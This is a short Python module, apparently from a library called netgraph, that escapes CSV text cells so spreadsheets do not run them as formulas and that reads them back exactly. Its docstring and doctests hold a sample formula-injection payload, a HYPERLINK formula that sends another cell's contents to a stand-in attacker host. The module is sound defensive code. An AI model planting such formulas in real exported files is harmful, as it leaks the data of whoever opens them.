"""Text in CSV cells, safe to open in a spreadsheet, and read back exactly.

A spreadsheet runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` as a
formula (a tab or a carriage return in front does not stop it): a person
named ``=HYPERLINK("http://evil.example/?"&A1,"click")`` in a CSV that HR
opens sends the next cell to that site. Every CSV netgraph writes puts a
``'`` in front of such a text cell, which spreadsheets show as plain text
(and hide); a cell that already begins with ``'`` gets one more, so that
reading removes exactly one ``'`` and gives back the text that was written.

Only text is escaped: numbers and booleans are written as they are.

Examples
--------
>>> escape('=HYPERLINK("http://evil.example","x")'), escape("-p1"), escape("Ada"), escape(-1)
('\\'=HYPERLINK("http://evil.example","x")', "'-p1", 'Ada', -1)
>>> unescape(escape("'tis")), unescape(escape("\\t=1+2")), unescape("Ada")
("'tis", '\\t=1+2', 'Ada')
>>> escape_row(["pos-cfo", "=1+2", True, 0.5])
['pos-cfo', "'=1+2", True, 0.5]
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import TypeVar

T = TypeVar("T")

#: A text cell that begins with one of these is written with a ``'`` in front.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "'")


def escape(value: T) -> T | str:
    """``value`` as a cell: text that a spreadsheet would run gets a leading ``'``; anything else as it is."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def unescape(cell: str) -> str:
    """A cell's text as it was before :func:`escape`: exactly one leading ``'`` removed."""
    return cell[1:] if cell.startswith("'") else cell


def escape_row(row: Iterable[object]) -> list[object]:
    """Every cell of a row through :func:`escape`."""
    return [escape(cell) for cell in row]
